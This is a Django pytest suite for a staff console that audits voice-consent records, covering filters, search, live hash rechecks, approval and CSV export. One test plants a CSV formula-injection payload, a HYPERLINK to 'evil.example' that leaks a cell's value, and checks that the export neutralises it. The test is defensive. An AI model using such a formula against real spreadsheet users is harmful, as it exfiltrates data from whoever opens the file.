"""The consent-audit console: filters, search, evidence with live hash checks, approve, CSV."""

import csv
import io
from datetime import timedelta

import pytest
from django.urls import reverse
from django.utils import timezone

from voices.models import ConsentRecord

pytestmark = pytest.mark.django_db


@pytest.fixture
def records(alice, bob, make_voice):
    yesterday = timezone.localdate() - timedelta(days=1)
    return {
        "verified": make_voice(alice, name="A").consent,
        "needs_review": make_voice(
            bob, name="B", verification="needs_review", relation="other"
        ).consent,
        "expired": make_voice(alice, name="C", expires_on=yesterday).consent,
    }


@pytest.mark.parametrize("state", ["verified", "needs_review", "expired"])
def test_it_filters_by_state(client, staff, records, state):
    client.force_login(staff)
    body = client.get(reverse("voices:staff_consents"), {"state": state}).content.decode()
    for name, consent in records.items():
        assert (consent.public_id in body) == (name == state), name


def test_it_filters_by_relation_date_and_search(client, staff, records):
    client.force_login(staff)
    url = reverse("voices:staff_consents")
    body = client.get(url, {"relation": "other"}).content.decode()
    assert records["needs_review"].public_id in body
    assert records["verified"].public_id not in body
    body = client.get(url, {"q": "bob@example"}).content.decode()
    assert records["needs_review"].public_id in body and records["verified"].public_id not in body
    body = client.get(url, {"q": records["verified"].voice_public_id}).content.decode()
    assert records["verified"].public_id in body and records["expired"].public_id not in body
    tomorrow = (timezone.localdate() + timedelta(days=1)).isoformat()
    assert "No consent record matches" in client.get(url, {"since": tomorrow}).content.decode()
    partial = client.get(url, {"q": "Linda"}, HTTP_HX_REQUEST="true").content.decode()
    assert partial.lstrip().startswith('<div class="card table-wrap" id="results">')


def test_the_detail_rechecks_hashes_live(client, staff, records, media):
    consent = records["needs_review"]
    client.force_login(staff)
    url = reverse("voices:staff_consent", args=[consent.public_id])
    body = client.get(url).content.decode()
    assert body.count("Matches") == 2
    assert reverse("voices:consent_recording", args=[consent.public_id]) in body
    (media / consent.document_file).write_bytes(b"%PDF-1.4 forged %%EOF")
    assert "Changed" in client.get(url).content.decode()
    assert (
        client.get(reverse("voices:consent_document", args=[consent.public_id])).status_code == 200
    )


def test_staff_approve_a_voice_that_needs_review(client, staff, records):
    consent = records["needs_review"]
    client.force_login(staff)
    client.post(reverse("voices:staff_consent_approve", args=[consent.public_id]))
    consent.refresh_from_db()
    assert consent.verification == ConsentRecord.Verification.APPROVED
    assert consent.approved_by == str(staff.public_id)


def test_it_exports_csv(client, staff, records):
    client.force_login(staff)
    response = client.get(reverse("voices:staff_consents_csv"), {"state": "needs_review"})
    assert response["Content-Type"] == "text/csv"
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert rows[0][:3] == ["consent", "voice", "account"]
    assert [r[0] for r in rows[1:]] == [records["needs_review"].public_id]
    assert rows[1][4] == "needs_review"


def test_the_csv_keeps_formulas_typed_by_people_inert(client, staff, alice, make_voice):
    voice = make_voice(alice)
    ConsentRecord.objects.filter(pk=voice.consent.pk).update(
        speaker_name='=HYPERLINK("http://evil.example/?"&A1,"Linda")'
    )
    client.force_login(staff)
    response = client.get(reverse("voices:staff_consents_csv"))
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert rows[1][5] == '\'=HYPERLINK("http://evil.example/?"&A1,"Linda")'


def test_every_consent_shows_its_statement_and_speaker_checks(client, staff, records):
    heard, unheard = records["verified"], records["needs_review"]
    ConsentRecord.objects.filter(pk=heard.pk).update(
        code_heard=True, name_heard=True, transcript="I, Linda Johnson, consent… 549 674.",
        transcript_sha256="ab" * 32, recogniser="faster-whisper 1.2.1, whisper-base d01c3014881c",
    )  # fmt: skip
    ConsentRecord.objects.filter(pk=unheard.pk).update(code_heard=False, name_heard=True)
    client.force_login(staff)
    listing = client.get(reverse("voices:staff_consents")).content.decode()
    assert listing.count("Code heard") == 1 and listing.count("Code not heard") == 1
    assert "Not checked" in listing  # the expired record was never checked
    detail = client.get(reverse("voices:staff_consent", args=[heard.public_id])).content.decode()
    assert "Heard: “I, Linda Johnson, consent… 549 674.”" in detail
    assert "faster-whisper 1.2.1" in detail and "Speaker check" in detail
    other = client.get(reverse("voices:staff_consent", args=[unheard.public_id])).content.decode()
    assert "Code not heard" in other and "Name heard" in other
    rows = list(
        csv.reader(
            io.StringIO(
                b"".join(
                    client.get(reverse("voices:staff_consents_csv")).streaming_content
                ).decode()
            )
        )
    )
    checks = {r[0]: (r[8], r[9]) for r in rows[1:]}
    assert checks[heard.public_id] == ("yes", "yes") and checks[unheard.public_id] == ("no", "yes")
